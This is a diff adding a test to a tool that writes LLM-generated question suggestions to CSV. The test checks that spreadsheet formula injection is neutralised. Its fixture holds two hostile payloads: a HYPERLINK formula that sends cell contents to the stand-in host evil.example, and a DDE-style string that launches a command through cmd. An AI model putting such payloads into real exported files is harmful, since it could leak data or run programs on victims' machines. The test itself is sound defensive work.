@@ -87,3 +87,14 @@ def test_suggestions_are_never_written_where_the_knowledge_base_would_load_them(
     assert "would become part of the knowledge base" in result.stderr
     assert not (kb_copy / "questions.csv").exists()
     assert fake_llm.requests == []
+
+
+def test_question_suggestions_csv_does_not_carry_spreadsheet_formulas(fake_llm, kb_copy, tmp_path):
+    import csv
+
+    fake_llm.script('=HYPERLINK("http://evil.example/?d="&A1,"Zählerstand")\n@SUM(1+1)*cmd|\' /C calc\'!A0')
+    out = tmp_path / "questions.csv"
+    result = run("llm", "questions", str(kb_copy), "--entry", "zaehlerstand-melden", "--out", str(out), env=llm_env(fake_llm))
+    assert result.returncode == 0, result.stderr
+    questions = [row["question"] for row in csv.DictReader(out.read_text(encoding="utf-8").splitlines())]
+    assert questions == ['\'=HYPERLINK("http://evil.example/?d="&A1,"Zählerstand")', "'@SUM(1+1)*cmd|' /C calc'!A0"]
